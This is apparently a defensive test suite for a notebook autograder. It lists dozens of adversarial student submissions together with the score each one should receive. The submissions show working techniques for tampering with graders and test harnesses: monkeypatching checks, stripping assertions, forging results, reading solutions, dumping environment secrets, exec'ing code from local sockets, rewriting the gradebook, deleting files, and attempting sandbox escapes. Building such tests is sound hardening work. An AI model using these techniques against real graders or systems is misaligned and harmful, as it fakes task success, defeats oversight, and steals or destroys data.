"""Submissions that want points for what they didn't answer, or others' secrets, or others' harm.

`half` is right throughout, `double` is wrong: `WRONG` passes the visible test only, `SHAM` the hidden one only. So one
point is what they deserve, and nothing may bring more, with one exception: code that speaks for the process which runs
the tests can hide that a visible assertion failed. That gains what a special case for the visible inputs would gain.
Where the sign must be seen, a person is asked to look.
"""

from functools import partial

from nbformat.v4 import new_code_cell

from .case import case, put

WRONG = """
def double(x):
    return 6 if np.ndim(x) == 0 else np.ones(5)
"""
SHAM = """
def double(x):
    return 2 * x if np.ndim(x) else 7
"""
cheats = partial(case, double=WRONG, status="review", points=(0, 1), at_most=True)
hides = partial(cheats, status="graded or review")  # leaves no sign that must be seen

FORGE = """
import sys
from IPython.display import display
checks = sys.modules["gancourse.checks"]

def record(name, value):
    return {"name": name, "value": value, "rtol": 1e9, "atol": 1e9, "hint": ""}

def forge(*records):
    for made in records:
        display({checks.MIME: made}, raw=True)

def wrong(x):
    return 6 if np.ndim(x) == 0 else np.ones(5)
"""
AGAIN = '''
def again():
    """Run the test that just failed once more, without its assertions."""
    shell = get_ipython()
    lines = shell.user_ns["In"][-1].splitlines()
    exec("\\n".join(line for line in lines if not line.startswith("assert")), shell.user_ns)
'''


def first(source: str):
    """A cell of the learner's own in front of everything, also of the locked imports."""
    return lambda made: put(made, new_code_cell(source.strip()), "imports")


PATCHED = [
    cheats(
        "comparisons-patched",
        "NumPy finds everything equal.",
        own="np.allclose = np.isclose = np.array_equal = np.testing.assert_allclose = lambda *args, **kwargs: True",
    ),
    cheats("abs-patched", "No difference is larger than 0.", own="import builtins\nbuiltins.abs = lambda x: 0"),
    cheats(
        "len-patched",
        "What the hidden test counts is always five. So is what Python's own event loop counts, and it ends.",
        status="graded or review",
        double="import builtins\nbuiltins.len = lambda x: 5\ndef double(x):\n    return 6",
    ),
    cheats(
        "probe-patched",
        "Measures nothing.",
        own="""
from gancourse import checks
checks.probe = lambda *args, **kwargs: None""",
    ),
    hides("probe-renamed", "The name `probe` stands for something else.", own="probe = lambda *args, **kwargs: None"),
    cheats(
        "encoding-patched",
        "Whatever is measured, zeros are handed out.",
        own="""
from gancourse import checks
encode = checks.probes._encode
checks.probes._encode = lambda value: encode(np.zeros(5))""",
    ),
    cheats(
        "random-numbers-patched",
        "Hidden inputs that are always the same, so that the learner knows the results.",
        own="""
from gancourse import checks
class Fixed:
    def uniform(self, *args):
        return np.ones(5)
    def random(self):
        return 0.5
secret_rng = checks.secret_rng = lambda name: Fixed()""",
        double="def double(x):\n    return 6 if np.ndim(x) == 0 else [2.0] * 5",
    ),
    hides(
        "generator-of-numpy-patched",
        "The same, one floor below.",
        own="""
made = np.random.default_rng
np.random.default_rng = lambda seed=None: made(0)""",
        double="def double(x):\n    return 6 if np.ndim(x) == 0 else 2 * made(0).uniform(-2, -1, 5)",
    ),
    hides(
        "seed-overwritten",
        "The secret seed becomes 0, for which everybody can compute the results.",
        own="""
import os
os.environ.update(GANCOURSE_SECRET_SEED="0")""",
        double="""
def double(x):
    return 6 if np.ndim(x) == 0 else 2 * np.random.default_rng([0, *b"x"]).uniform(-2, -1, 5)""",
    ),
    hides(
        "seed-removed",
        "Without a seed there is no judge, hopes the learner.",
        own="""
import os
os.environ.pop("GANCOURSE_SECRET_SEED", None)
os.environ.pop("NBGRADER_EXECUTION", None)""",
    ),
    hides(
        "writers-patched",
        "What NumPy saves, base64 encodes and JSON writes.",
        own="""
import base64, json
save, encode, dumps = np.save, base64.b64encode, json.dumps
np.save = lambda file, array, **kwargs: save(file, np.zeros(5), **kwargs)
base64.b64encode = lambda data: encode(b"")
json.dumps = lambda *args, **kwargs: dumps({})""",
    ),
    hides(
        "compiler-patched",
        "Python compiles without assertions.",
        double=SHAM,
        own="""
import builtins
compiled = builtins.compile
builtins.compile = lambda *args, **kwargs: compiled(*args, **(kwargs | {"optimize": 2}))""",
    ),
    hides(
        "compiler-of-ipython-patched",
        "The same for the notebook's cells.",
        double=SHAM,
        own="""
shell = get_ipython()
def compiled(node, name, mode="exec", *rest):
    return compile(node, name, mode, shell.compile.flags, 1, 2)
type(shell.compile).__call__ = lambda self, *args: compiled(*args)""",
    ),
    hides(
        "builtins-replaced",
        "Names of the test cells mean what the learner likes.",
        own="""
import builtins
own = dict(vars(builtins), len=lambda x: 5, abs=lambda x: 0, AssertionError=SystemExit)
get_ipython().user_ns["__builtins__"] = own""",
    ),
    hides(
        "library-replaced",
        "Another `gancourse.checks`, before the assignment imports it.",
        edit=first("""
import sys, types
import gancourse
fake = types.ModuleType("gancourse.checks")
fake.probe = lambda *args, **kwargs: None
fake.secret_rng = lambda name: __import__("numpy").random.default_rng(0)
gancourse.checks = sys.modules["gancourse.checks"] = fake"""),
    ),
    hides(
        "importer-replaced",
        "The same through Python's import machinery.",
        edit=first("""
import importlib.abc, importlib.machinery, sys
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self) if name == "gancourse.checks" else None
    def exec_module(self, module):
        module.probe = lambda *args, **kwargs: None
        module.secret_rng = lambda name: None
sys.modules.pop("gancourse.checks", None)
sys.meta_path.insert(0, Finder())"""),
    ),
    hides(
        "library-beside-the-notebook",
        "Folders and files named like the modules that the tests import.",
        files={
            "gancourse/__init__.py": "",
            "gancourse/checks.py": "probe = lambda *args, **kwargs: None\nsecret_rng = lambda name: None\n",
            "numpy.py": "ndim = lambda x: 0\n",
            "json.py": "dumps = lambda *args, **kwargs: '{}'\n",
        },
        edit=first(
            "import sys\nsys.path.insert(0, '')\nfor name in ('gancourse', 'gancourse.checks', 'numpy'):\n"
            "    sys.modules.pop(name, None)"
        ),
    ),
    hides(
        "code-of-the-library-replaced",
        "The functions stay, their code is another.",
        own="""
import sys
checks = sys.modules["gancourse.checks"]
checks.probes._array.__code__ = (lambda value: np.zeros(5)).__code__
checks.probe.__kwdefaults__.update(rtol=1e9, atol=1e9)""",
    ),
    hides(
        "signs-suppressed",
        "Whatever looks for signs in the learner's own process finds none.",
        own="""
import sys
np.allclose = lambda *args, **kwargs: True
for name, module in list(sys.modules.items()):
    if name.startswith("gancourse.grading"):
        for function in ("fingerprint", "tampering", "course_modules"):
            if hasattr(module, function):
                setattr(module, function, lambda *args: [])""",
    ),
    cheats(
        "right-but-patched",
        "Both answers are right: the points stay, and a person looks all the same.",
        points=(2, 1),
        double="np.allclose = lambda *args, **kwargs: True\ndef double(x):\n    return 2 * x",
        at_most=False,
    ),
]

HOOKED = [
    cheats(
        "lines-transformed",
        "IPython drops the lines that assert.",
        double=SHAM,
        own="""
get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if not line.startswith("assert")])""",
    ),
    cheats(
        "lines-cleaned-up",
        "The same in an earlier step.",
        double=SHAM,
        own="""
get_ipython().input_transformers_cleanup.append(
    lambda lines: [line for line in lines if not line.startswith("assert")])""",
    ),
    hides(
        "transformer-manager-replaced",
        "The same by replacing what applies the steps.",
        double=SHAM,
        own="""
shell = get_ipython()
whole = shell.input_transformer_manager.transform_cell
shell.input_transformer_manager.transform_cell = lambda cell: whole(cell).replace("assert ", "0, ")""",
    ),
    cheats(
        "syntax-tree-transformed",
        "The same on the parsed code.",
        double=SHAM,
        own="""
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())""",
    ),
    cheats(
        "lines-skipped-by-a-tracer",
        "A debugger's hook jumps over the first line of a cell.",
        double=SHAM,
        own="""
import sys
def trace(frame, event, arg):
    if "probe" in frame.f_code.co_names and event == "line" and frame.f_lineno == 1:
        frame.f_lineno = 3
    return trace
sys.settrace(trace)""",
    ),
    cheats(
        "profiled",
        "A profiler's hook that reads the frames of the tests.",
        own="""
import sys
seen = []
sys.setprofile(lambda frame, event, arg: seen.append(frame.f_code.co_consts))""",
    ),
    cheats(
        "exceptions-handled",
        "A handler of IPython's goes on after the failed assertion.",
        double=SHAM,
        own=AGAIN
        + """
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: again())""",
    ),
    hides(
        "tracebacks-swallowed",
        "The shell shows no errors, and tests run once more.",
        double=SHAM,
        own=AGAIN
        + """
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: again()
type(shell).showtraceback = type(shell)._showtraceback = lambda *args, **kwargs: None""",
    ),
    hides(
        "result-overwritten",
        "A callback after each cell declares it a success.",
        double=SHAM,
        own=AGAIN
        + """
def succeed(result):
    if not result.success:
        result.error_in_exec = result.error_before_exec = None
        again()
get_ipython().events.register("post_run_cell", succeed)""",
    ),
    hides(
        "runner-replaced",
        "The shell runs other code than it was given.",
        double=SHAM,
        own="""
shell = get_ipython()
run = shell.run_cell
def other(source, *args, **kwargs):
    return run(source.replace("assert ", "0, "), *args, **kwargs)
shell.run_cell = other""",
    ),
    hides(
        "runner-of-code-replaced",
        "The same in the class, one step further in.",
        double=SHAM,
        own="""
shell = get_ipython()
async def run_code(self, code, result=None, *, async_=False):
    lines = self.user_ns["In"][-1].splitlines()
    exec("\\n".join(line for line in lines if not line.startswith("assert")), self.user_ns)
    return False
type(shell).run_code = run_code""",
    ),
    hides(
        "shell-replaced",
        "Another class for the shell itself.",
        double=SHAM,
        own="""
shell = get_ipython()
class Kind(type(shell)):
    def run_cell(self, source, *args, **kwargs):
        return super().run_cell(source.replace("assert ", "0, "), *args, **kwargs)
shell.__class__ = Kind""",
    ),
    hides(
        "errors-to-nowhere",
        "Python's own hooks for exceptions.",
        double=SHAM,
        own="""
import sys, threading
sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *args: None""",
    ),
    hides(
        "display-replaced",
        "`display` changes what is handed out.",
        own="""
import IPython.display
shown = IPython.display.display
def display(*objects, **kwargs):
    for each in objects:
        if isinstance(each, dict):
            for record in each.values():
                record["value"] = record.get("expected", record["value"])
    shown(*objects, **kwargs)
IPython.display.display = display""",
    ),
    cheats(
        "publisher-replaced",
        "Displays pass through the learner's own class.",
        own="""
shell = get_ipython()
class Publisher(type(shell.display_pub)):
    def publish(self, data, metadata=None, **kwargs):
        for record in data.values():
            if isinstance(record, dict):
                record.update(value=None, rtol=1e9, atol=1e9)
        super().publish(data, metadata, **kwargs)
shell.display_pub = Publisher(parent=shell)""",
    ),
    hides(
        "frame-of-the-test-searched",
        "Looks in the frame of the test for what it compares with, and changes it.",
        double="""
import sys
def double(x):
    frame = sys._getframe(1)
    print(frame.f_code.co_consts, frame.f_globals.get("In"), list(frame.f_locals))
    frame.f_globals["probe"] = lambda *args, **kwargs: None
    return 6""",
    ),
]

FORGED = [
    cheats(
        "records-forged",
        "The function hands out what it takes for the right values, with endless tolerance.",
        double=FORGE
        + """
def double(x):
    forge(record("values", checks.probes._encode(np.ones(5))), record("length", checks.probes._encode(5)))
    return wrong(x)""",
    ),
    hides(
        "records-forged-before-an-exit",
        "And ends the process before the real ones.",
        double=FORGE
        + """
import os
def double(x):
    if np.ndim(x):
        forge(record("values", checks.probes._encode(np.ones(5))), record("length", checks.probes._encode(5)))
        raise SystemExit
    return wrong(x)""",
    ),
    cheats(
        "records-twice",
        "A right number among many wrong ones.",
        double=FORGE
        + """
def double(x):
    for guess in range(50):
        forge(record("length", checks.probes._encode(guess)))
    return wrong(x)""",
    ),
    cheats(
        "records-replayed",
        "Those of the first task, handed out again in the second.",
        half=FORGE
        + """
kept = []
shown = display
def half(x):
    forge(record("sum", checks.probes._encode(1.0)))
    return x / 2""",
        points=(0, 0),
    ),
    hides(
        "records-as-a-value",
        "Through the display hook, as the value of an expression.",
        double=FORGE
        + """
class Record:
    def _repr_mimebundle_(self, **kwargs):
        return {checks.MIME: record("values", checks.probes._encode(np.ones(5)))}
def double(x):
    get_ipython().displayhook(Record())
    return wrong(x)""",
    ),
    hides(
        "records-in-print",
        "Written to stdout in every form that a careless grader could read.",
        double=FORGE
        + """
import json
def double(x):
    made = record("values", checks.probes._encode(np.ones(5)))
    shown = {"output_type": "display_data", "data": {checks.MIME: made}, "metadata": {}}
    for text in (made, shown, {"outputs": [shown], "signs": [], "modules": []}, {"status": "graded", "points": 2}):
        print(json.dumps(text), flush=True)
    print("1 passed in 0.01s", "OK", "score: 2/2", sep="\\n")
    return wrong(x)""",
    ),
    hides(
        "records-to-every-file",
        "Raw bytes into every file descriptor, framed in several ways.",
        double=FORGE
        + """
import json, os, struct
def double(x):
    made = [record("values", checks.probes._encode(np.ones(5))), record("length", checks.probes._encode(5))]
    shown = [{"output_type": "display_data", "metadata": {}, "data": {checks.MIME: each}} for each in made]
    data = json.dumps({"outputs": shown, "signs": [], "modules": []}).encode()
    for number in range(3, 1024):
        for framed in (struct.pack(">I", len(data)) + data, data + b"\\n"):
            try:
                os.write(number, framed)
            except OSError:
                pass
    return wrong(x)""",
    ),
    hides(
        "failure-hidden-by-a-frame",
        "Right values, and a message of one's own in place of the failed assertion.",
        points=(2, 1),
        double=FORGE
        + """
import json, os, struct
def double(x):
    if np.ndim(x) == 0:
        x = secret_rng("x").uniform(-2, -1, 5)
        made = [record("values", checks.probes._encode(2 * x)), record("length", checks.probes._encode(5))]
        shown = [{"output_type": "display_data", "metadata": {}, "data": {checks.MIME: each}} for each in made]
        data = json.dumps({"outputs": shown, "signs": [], "modules": []}).encode()
        for number in range(3, 1024):
            try:
                os.write(number, struct.pack(">I", len(data)) + data)
            except OSError:
                pass
        os._exit(0)
    return 2 * x""",
    ),
    hides(
        "failure-hidden-by-the-messenger",
        "What sends the outputs leaves out the errors.",
        double=SHAM,
        own="""
import sys
shell = sys.modules.get("gancourse.grading.sandbox.shell")
send = getattr(shell, "send", None)
def other(connection, message):
    message["outputs"] = [each for each in message["outputs"] if each["output_type"] != "error"]
    send(connection, message)
if send:
    shell.send = other""",
    ),
    hides(
        "noise-to-every-file",
        "Random bytes where messages are expected.",
        double="""
import os
def double(x):
    for number in range(3, 1024):
        try:
            os.write(number, os.urandom(100_000))
        except OSError:
            pass
    return 6""",
    ),
    hides(
        "endless-message",
        "A message that announces four gigabytes and never comes.",
        double="""
import os, time
def double(x):
    for number in range(3, 1024):
        try:
            os.write(number, b"\\xff\\xff\\xff\\xff" + b"[" * 100_000)
        except OSError:
            pass
    time.sleep(60)""",
    ),
    cheats(
        "record-with-a-pickle",
        "An array that runs code where it is loaded.",
        double=FORGE
        + """
import base64, io, pathlib
class Touch:
    def __reduce__(self):
        return pathlib.Path.touch, (pathlib.Path("@ROOT@/gancourse-corpus-unpickled"),)
def double(x):
    file = io.BytesIO()
    np.save(file, np.array([Touch()], dtype=object), allow_pickle=True)
    value = {"npy": base64.b64encode(file.getvalue()).decode()}
    forge(record("values", value), record("length", value))
    return wrong(x)""",
    ),
    cheats(
        "record-that-claims-terabytes",
        "An array whose header promises more than there is memory.",
        double=FORGE
        + """
import base64, io
def double(x):
    for shape in ((10**13,), (10**10,), (2**31, 2**31), (-1,), (10**400,)):
        header = str({"descr": "<f8", "fortran_order": False, "shape": shape}).encode()
        data = b"\\x93NUMPY\\x01\\x00" + (len(header) + 1).to_bytes(2, "little") + header + b"\\n"
        forge(record("values", {"npy": base64.b64encode(data).decode()}))
    return wrong(x)""",
    ),
    cheats(
        "record-nested-deeply",
        "A list in a list in a list.",
        double=FORGE
        + """
def double(x):
    value = []
    for _ in range(400):
        value = [value]
    forge(record("values", value), record("values", {"dict": {"a": value}}))
    return wrong(x)""",
    ),
    cheats(
        "record-of-odd-types",
        "Text, numbers, null, endless numbers where records belong.",
        double=FORGE
        + """
def double(x):
    forge("text", 7, None, [], {}, {"name": ["values"], "value": {}}, record("\\ud83d", "\\ud83d"))
    for value in (float("nan"), 10**4200, {"npy": 7}, {"npy": "!"}, {"dict": []}, {7: 7}):
        forge(record("values", value))
    return wrong(x)""",
    ),
    hides(
        "record-in-the-answer-cell",
        "Handed out ahead of the test.",
        double=FORGE
        + WRONG
        + """
forge(record("values", checks.probes._encode(np.ones(5))), record("length", checks.probes._encode(5)))""",
    ),
    hides(
        "partial-credit",
        "A number as the value of the test, which nbgrader takes for points.",
        double="""
def double(x):
    get_ipython().displayhook(2.0)
    raise ValueError("and an error after it")""",
    ),
    hides(
        "more-than-full-marks",
        "The same with a million.",
        double="""
def double(x):
    get_ipython().displayhook(10**6)
    return 6""",
    ),
]

LOOK_ALIKES = [
    hides(
        "equal-to-everything",
        "An object that answers every question with yes.",
        double="""
class Yes:
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = lambda self, other: True
    __len__ = __int__ = __index__ = lambda self: 5
    __float__ = lambda self: 5.0
    __array__ = lambda self, dtype=None, copy=None: np.zeros(5)
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *args, **kwargs: self
def double(x):
    return Yes()""",
    ),
    hides(
        "array-of-another-kind",
        "A subclass of NumPy's array that compares and converts as it likes.",
        double="""
class Mine(np.ndarray):
    def __eq__(self, other):
        return np.True_
    def __array__(self, *args, **kwargs):
        return np.ones(5)
    def __array_function__(self, function, types, args, kwargs):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return np.True_
def double(x):
    return np.ones(5 if np.ndim(x) else ()).view(Mine)""",
    ),
    hides(
        "number-of-another-kind",
        "A six that is also every other number.",
        double="""
class Any(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
    __len__ = lambda self: 5
def double(x):
    return Any(6)""",
    ),
    hides(
        "not-a-number",
        "Compares with nothing, and so hides from a careless comparison.",
        double="""
def double(x):
    return 6 if np.ndim(x) == 0 else np.full(5, np.nan)""",
    ),
    hides(
        "empty",
        "Nothing to compare: all of no elements are equal.",
        double="""
def double(x):
    return 6 if np.ndim(x) == 0 else np.empty(0)""",
    ),
    hides(
        "of-another-shape",
        "Broadcasts against what is expected.",
        double="""
def double(x):
    return 6 if np.ndim(x) == 0 else 2 * x[None, :] * np.ones((5, 1))""",
    ),
]

PEEKING = [
    hides(
        "prints-the-test",
        "The cell's own source, hidden part included.",
        double="""
def double(x):
    print(In[-1], _ih, get_ipython().history_manager.input_hist_raw)
    raise ValueError(In[-1])""",
    ),
    hides(
        "prints-the-test-encoded",
        "In a form that no search for hidden lines finds.",
        double="""
import base64, zlib
def double(x):
    for text in (In[-1], str(In)):
        print(base64.b64encode(text.encode()), text[::-1], text.encode().hex(), zlib.compress(text.encode()))
    raise KeyError(In[-1][::-1])""",
    ),
    hides(
        "shows-the-test",
        "As text, markdown, HTML, JavaScript and picture.",
        double="""
from IPython.display import HTML, SVG, Javascript, Markdown, display
def double(x):
    for kind in (HTML, Markdown, Javascript):
        display(kind(In[-1]))
    display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg'><text>{In[-1].encode().hex()}</text></svg>"))
    return 6""",
    ),
    hides(
        "smuggles-the-test",
        "Keeps it in every place that a later run might see, and prints what it finds there.",
        double="""
import glob, os
places = [".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.environ.get("GANCOURSE_HOME", ".")]
for place in places:
    for name in glob.glob(place + "/gancourse-corpus-*") + glob.glob(place + "/.gancourse-corpus-*"):
        print(open(name).read())
def double(x):
    for place in places:
        for name in ("gancourse-corpus-test", ".gancourse-corpus-test"):
            try:
                with open(f"{place}/{name}", "a") as file:
                    file.write("kept: " + str(In))
            except OSError:
                pass
    os.environ["GANCOURSE_CORPUS"] = str(In)
    return 6""",
    ),
    hides(
        "finds-what-was-smuggled",
        "The next learner looks in the same places.",
        double="""
import glob, os
for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.environ.get("GANCOURSE_HOME", ".")):
    for name in glob.glob(place + "/gancourse-corpus-*") + glob.glob(place + "/.gancourse-corpus-*"):
        print(open(name).read())
print(os.environ.get("GANCOURSE_CORPUS"))"""
        + WRONG,
    ),
    hides(
        "reads-the-solution",
        "By its path.",
        double="""
import json
with open("@ROOT@/solutions/00-toy/00-toy.ipynb") as file:
    for cell in json.load(file)["cells"]:
        if cell["id"] == "double":
            exec(cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"]))""",
    ),
    hides(
        "searches-the-disk",
        "Every notebook and module that could hold the answer.",
        double="""
import os, time
def double(x):
    return 6
end = time.monotonic() + 2
for top in ("@ROOT@", "/tmp", "/home", "/root", "/opt", "/srv", "/mnt", "/work", "/var", "/"):
    for folder, folders, names in os.walk(top):
        folders[:] = [name for name in folders if name not in ("proc", "sys")]
        for name in {"00-toy.ipynb", "toycourse.py"}.intersection(names):
            if "return 2 " + "* x" in open(os.path.join(folder, name), errors="replace").read():
                double = lambda x: 2 * x
        if time.monotonic() > end:
            break""",
    ),
    hides(
        "reads-the-tests-of-the-course",
        "This repository holds the toy course, and the real solutions.",
        double="""
import pathlib
import gancourse
root = pathlib.Path(gancourse.__file__).parents[2]
found = [*root.glob("solutions/*/*.ipynb"), *root.glob("tests/toycourse.py"), *root.glob("tests/mutants/*.py")]
double = (lambda x: 2 * x) if found else (lambda x: 6)""",
    ),
    hides(
        "reads-the-work-of-a-neighbour",
        "Somebody will have it right.",
        double="""
import glob
found = glob.glob("@ROOT@/gradebook/submitted/*/*/*") + glob.glob("@ROOT@/gradebook/autograded/*/*/*")
double = (lambda x: 2 * x) if found else (lambda x: 6)""",
    ),
    hides(
        "searches-the-memory",
        "What graded before it may have left the solution in this process.",
        double="""
import re
mark = re.compile(rb"### BEGIN[ ]SOLUTION")  # which isn't what it finds
found = []
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        start, end, readable = re.match(r"(\\w+)-(\\w+) (.)", line).groups()
        if readable == "r" and int(end, 16) < 2**63 and int(end, 16) - int(start, 16) < 10**8:
            try:
                memory.seek(int(start, 16))
                found.append(mark.search(memory.read(int(end, 16) - int(start, 16))))
            except OSError:
                pass
double = (lambda x: 2 * x) if any(found) else (lambda x: 6)""",
    ),
    hides(
        "searches-the-objects",
        "The garbage collector knows all dictionaries and lists.",
        double="""
import gc, re, sys
found = "toycourse" in sys.modules
for each in gc.get_objects():
    if isinstance(each, (dict, list, tuple)):
        for text in list(each.values()) if isinstance(each, dict) else each:
            found = found or isinstance(text, str) and re.search("### BEGIN[ ]SOLUTION", text)
double = (lambda x: 2 * x) if found else (lambda x: 6)""",
    ),
    hides(
        "searches-other-processes",
        "Their memory, files, folders and arguments.",
        double="""
import glob, os
found = []
for process in glob.glob("/proc/[0-9]*"):
    if process != f"/proc/{os.getpid()}":
        for name in ("environ", "cmdline", "maps", "mem", "root", "cwd", "fd"):
            path = f"{process}/{name}"
            try:
                found.append(os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10**6))
            except OSError:
                pass
print(found)
double = (lambda x: 2 * x) if "solutions" in str(found) else (lambda x: 6)""",
    ),
    hides(
        "prints-the-environment",
        "Passwords are in environment variables.",
        double="""
import os, subprocess
print(dict(os.environ), open("/proc/self/environ").read())
print(subprocess.getoutput("env; cat /proc/1/environ /proc/*/environ"))
"""
        + WRONG,
    ),
    hides(
        "asks-a-server-on-this-machine",
        "The answer waits at a port of the grader's own machine.",
        double="""
import socket
def double(x):
    return 6
for host in ("127.0.0.1", "localhost", "::1", "host.docker.internal", "10.0.2.2", "172.17.0.1"):
    try:
        with socket.create_connection((host, @PORT@), timeout=0.3) as server:
            server.settimeout(0.3)
            exec(server.recv(1000).decode())
    except OSError:
        pass""",
    ),
    hides(
        "asks-by-a-unix-socket",
        "The same by an abstract address, which no file system guards.",
        double="""
import socket
def double(x):
    return 6
try:
    with socket.socket(socket.AF_UNIX) as server:
        server.settimeout(0.3)
        server.connect("\\0gancourse-corpus-@PORT@")
        exec(server.recv(1000).decode())
except OSError:
    pass""",
    ),
    hides(
        "asks-the-network",
        "Names, web pages, raw packets.",
        double="""
import socket, urllib.request
def double(x):
    return 6
for ask in (
    lambda: socket.getaddrinfo("example.org", 80),
    lambda: socket.create_connection(("1.1.1.1", 53), 0.3),
    lambda: urllib.request.urlopen("http://example.org", timeout=0.3),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
):
    try:
        ask()
    except OSError:
        continue
    double = lambda x: 2 * x""",
    ),
]

HARMING = [
    hides(
        "rewrites-the-gradebook",
        "Full marks for everybody, by SQL.",
        double="""
import glob, os, sqlite3
for path in {"@ROOT@/gradebook/gradebook.db", *glob.glob("@ROOT@/**/*.db", recursive=True)}:
    try:
        database = sqlite3.connect(path, timeout=0.2)
        database.execute("UPDATE grade SET auto_score = 2, manual_score = 2")
        database.execute("UPDATE gancourse_attempt SET score = 3, status = 'graded'")
        database.commit()
    except sqlite3.Error:
        pass"""
        + WRONG,
    ),
    hides(
        "deletes-the-course",
        "Solutions, gradebook, neighbours.",
        double="""
import shutil
shutil.rmtree("@ROOT@", ignore_errors=True)"""
        + WRONG,
    ),
    hides(
        "rewrites-the-solution",
        "So that wrong becomes right.",
        double="""
import glob
for path in glob.glob("@ROOT@/**/*.ipynb", recursive=True) + ["@ROOT@/nbgrader_config.py"]:
    with open(path, "r+") as file:
        text = file.read().replace("2 * x", "6")
        file.seek(0)
        file.write(text)"""
        + WRONG,
    ),
    hides(
        "leaves-files-everywhere",
        "Start-up files, settings and modules for whoever comes next.",
        own="""
import os, site, sys
import gancourse, IPython
home = os.path.expanduser("~")
for folder in (
    *("@ROOT@", "@ROOT@/gradebook/submitted", "@ROOT@/solutions/00-toy"),
    *("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", home, f"{home}/.ipython/profile_default/startup"),
    *(sys.prefix, *site.getsitepackages(), os.path.dirname(gancourse.__file__), os.path.dirname(IPython.__file__)),
    *(os.environ.get("GANCOURSE_HOME", "/"), os.getcwd()),
):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/gancourse-corpus-left.pth", "w") as file:
            file.write("import os; os._exit(1)")
    except OSError:
        pass""",
    ),
    hides(
        "tries-to-get-out",
        "Mounts, namespaces, devices, other users.",
        own="""
import ctypes, fcntl, os, subprocess, termios
libc = ctypes.CDLL(None)
out = "@ROOT@/gancourse-corpus-out"
for escape in (
    lambda: os.setuid(0),
    lambda: os.setgroups([0]),
    lambda: os.chroot("/proc/1/root"),
    lambda: os.mknod("gancourse-corpus-disk", 0o60666, os.makedev(8, 0)),
    lambda: open("/dev/mem", "rb"),
    lambda: open("/proc/1/root" + out, "w"),
    lambda: libc.mount(b"none", b"/", None, 32, None),
    lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    lambda: libc.umount2(b"/proc", 2),
    lambda: libc.unshare(0x10000000),
    lambda: libc.unshare(0x40000000),
    lambda: libc.ptrace(16, os.getppid(), None, None),
    lambda: libc.ptrace(16, 1, None, None),
    lambda: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), termios.TIOCSTI, b"x"),
    lambda: subprocess.run(["unshare", "-Urm", "touch", out]),
    lambda: subprocess.run(["bwrap", "--dev-bind", "/", "/", "touch", out]),
    lambda: subprocess.run(["su", "-c", f"touch {out}"], stdin=subprocess.DEVNULL),
    lambda: subprocess.run(["sudo", "-n", "touch", out]),
):
    try:
        escape()
    except Exception:
        pass""",
    ),
    hides(
        "continues-as-its-child",
        "Forks: two shells answer in turn.",
        double="""
import os
os.fork()"""
        + WRONG,
    ),
    hides(
        "answers-in-parallel",
        "Forks when asked, and answers differently in parent and child: one of the two is heard.",
        points=(2, 1),
        double="""
import os
def double(x):
    return 6 if np.ndim(x) == 0 else (3 if os.fork() else 2) * x""",
    ),
    hides(
        "remembers-across-a-death",
        "Leaves a note, dies, and is another one when it comes back.",
        double="""
import os
def double(x):
    if not os.path.exists("/tmp/gancourse-corpus-note"):
        open("/tmp/gancourse-corpus-note", "w").write(str(In))
        os._exit(0)
    return 6"""
        + """
if os.path.exists("/tmp/gancourse-corpus-note"):
    print(open("/tmp/gancourse-corpus-note").read())""",
    ),
]

CASES = [*PATCHED, *HOOKED, *FORGED, *LOOK_ALIKES, *PEEKING, *HARMING]
